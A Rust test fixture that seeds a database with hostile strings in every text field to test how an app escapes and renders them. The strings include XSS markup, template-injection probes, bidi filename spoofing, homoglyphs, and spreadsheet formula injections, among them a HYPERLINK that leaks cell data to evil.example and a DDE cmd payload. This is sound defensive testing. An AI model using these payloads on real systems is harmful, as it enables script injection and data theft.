//! An organization in which every free text is hostile or broken.
//!
//! Invariant: each of [`texts`] is in every text field of a workspace, of a person and of a key. The workspaces are in
//! the same order, after the default one, with the slugs `hostile-1`, `hostile-2` and so on.

use rusqlite::Transaction;
use time::Duration;

use super::{empty, random::Random};
use crate::{
    clock,
    store::{
        activity::{self, Caller},
        budgets, keys, members, organization,
        organization::Person,
        workspaces,
    },
    wire::{ActivityItem, Interval, Key, Role, Usage, Usd},
};

/// A slug that no client can create. Without encoding it changes a URL's path.
const SLUG: &str = "\"><img src=x onerror=hostile()>/%2e?panel=delete#\u{202e}";

/// Returns the texts.
fn texts() -> Vec<String> {
    let mut texts: Vec<String> = [
        // Markup, including end tags of likely surrounding elements.
        "<img src=x onerror=\"hostile('img')\">",
        "</title></textarea></option><script>hostile('script')</script><iframe srcdoc=\"<script>parent.hostile()</script>\">",
        "\"'><svg/onload=hostile('svg')><style>*{display:none}</style>",
        "javascript:hostile('address')//https://evil.example/%0ahostile(1)",
        // Text that a template or a second decoding would change.
        "&lt;img src=x onerror=hostile()&gt; {{7*7}} ${7*7} <%= 7*7 %> &#x202e; %3Cscript%3E \\u003cscript\\u003e",
        // Bidirectional overrides and isolates without an end, and an end without a start.
        "invoice \u{202e}fdp.exe",
        "\u{2069}\u{2069}\u{202e}gnp.ogol\u{2066}\u{2067}\u{202d}\u{202b} 123 abc",
        // Two texts that look the same, and one that is invisible.
        "Pro\u{200b}duc\u{200d}tion\u{2060}\u{feff}",
        "Рr\u{43e}duction",
        "\u{200b}\u{2060}\u{feff}\u{ad}",
        "שלום עולם 2026 (مرحبا, 100%)",
        "line one\nline two\r\n\ttab \u{0} nul \u{1b}[31mred\u{7f}\u{85}\u{2028}\u{2029}end",
        // Spreadsheet formulas.
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"Pay\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3\",\"=1+1",
        "@SUM(1)\t;=1",
    ]
    .map(str::to_owned)
    .into();
    // Emoji of seven code points each, and an incomplete flag.
    texts.push("👨‍👩‍👧‍👦".repeat(40) + "🏳️‍🌈👍🏽🇦");
    // Many combining marks on each letter.
    texts
        .push("Zalgo".chars().map(|letter| format!("{letter}{}", "\u{300}\u{30d}\u{323}\u{489}".repeat(12))).collect());
    texts.push("x".repeat(10_000));
    texts.push("\u{202e}".repeat(200) + &"ع".repeat(9_800));
    texts
}

/// Creates the default workspace, one workspace for each text, and one with a hostile slug.
pub fn fill(transaction: &Transaction<'_>) -> rusqlite::Result<()> {
    let mut random = Random::new(13);
    let texts = texts();
    let people = texts.iter().enumerate().map(|(at, text)| person(&mut random, at, text)).collect::<Vec<_>>();
    for person in &people {
        organization::insert(transaction, person)?;
    }
    let named = texts.iter().enumerate().map(|(at, text)| (text.as_str(), format!("hostile-{}", at + 1)));
    let first = ("Default Workspace", "default".to_owned());
    let last = ("Slug of another world", SLUG.to_owned());
    for (at, (name, slug)) in std::iter::once(first).chain(named).chain([last]).enumerate() {
        let text = &texts[at % texts.len()];
        let owner = &people[at % people.len()];
        let created_at = random.days_ago(60);
        let mut workspace = empty::workspace(random.uuid(), name, &slug, Some(owner.id.clone()), created_at);
        workspace.description = Some(text.clone());
        workspace.default_text_model = Some(text.clone());
        workspace.default_image_model = Some(text.clone());
        workspace.default_provider_sort = Some(text.clone());
        workspace.disabled_server_tools = Some(vec![text.clone(), name.to_owned()]);
        workspace.updated_at = Some(random.days_ago(20));
        workspaces::insert(transaction, &workspace)?;
        set_budgets(transaction, &workspace.id, &workspace.created_at)?;
        for person in people.iter().filter(|_| slug != "default") {
            members::insert(transaction, &workspace.id, &person.id, person.role, &workspace.created_at)?;
        }
        // The last workspace has all keys, which block its deletion.
        let in_it = if slug == SLUG { &texts[..] } else { std::slice::from_ref(text) };
        for (number, text) in in_it.iter().enumerate() {
            let owner = &people[(at + number) % people.len()];
            keys::insert(transaction, &key(&mut random, &workspace.id, owner, text, number + at))?;
        }
        let item = spend(&random, text);
        let noon = format!("{}T12:00:00.000000Z", item.date);
        activity::insert(transaction, &workspace.id, Caller::default(), &noon, &item)?;
    }
    Ok(())
}

/// Creates a person. IDs are free text too, but they are unique.
fn person(random: &mut Random, at: usize, text: &str) -> Person {
    Person {
        id: format!("{text}{at}"),
        email: format!("{text}@example.com"),
        first_name: Some(text.to_owned()),
        last_name: (!at.is_multiple_of(3)).then(|| text.to_owned()),
        role: if at == 0 { Role::Admin } else { Role::Member },
        is_scim: false,
        joined_at: random.days_ago(90),
    }
}

fn set_budgets(transaction: &Transaction<'_>, workspace_id: &str, at: &str) -> rusqlite::Result<()> {
    for (interval, limit) in [(Interval::Monthly, "500"), (Interval::Daily, "50")] {
        let limit: Usd = limit.parse().map_err(|_| rusqlite::Error::InvalidQuery)?;
        budgets::insert(transaction, workspace_id, interval, &limit, at)?;
    }
    Ok(())
}

fn key(random: &mut Random, workspace_id: &str, owner: &Person, text: &str, at: usize) -> Key {
    Key {
        hash: format!("{text}/{at}-{}", random.hex(8)),
        name: text.to_owned(),
        label: text.to_owned(),
        disabled: false,
        creator_user_id: Some(owner.id.clone()),
        external_user: None,
        workspace_id: workspace_id.to_owned(),
        limit: None,
        limit_remaining: None,
        limit_reset: Some(text.to_owned()),
        include_byok_in_limit: false,
        usage: Usage { usage: 12.5, usage_daily: 1.0, usage_weekly: 2.0, usage_monthly: 5.5, ..Usage::default() },
        expires_at: None,
        last_used_at: None,
        created_at: random.days_ago(30),
        updated_at: None,
    }
}

/// Returns the spend of yesterday.
fn spend(random: &Random, text: &str) -> ActivityItem {
    ActivityItem {
        date: clock::date((random.now() - Duration::days(1)).date()),
        model: text.to_owned(),
        model_permaslug: text.to_owned(),
        endpoint_id: String::new(),
        provider_name: text.to_owned(),
        usage: 1.25,
        byok_usage_inference: 0.0,
        requests: 10,
        prompt_tokens: 100,
        completion_tokens: 100,
        reasoning_tokens: 0,
        cached_tokens: 0,
        workspace_id: None,
    }
}
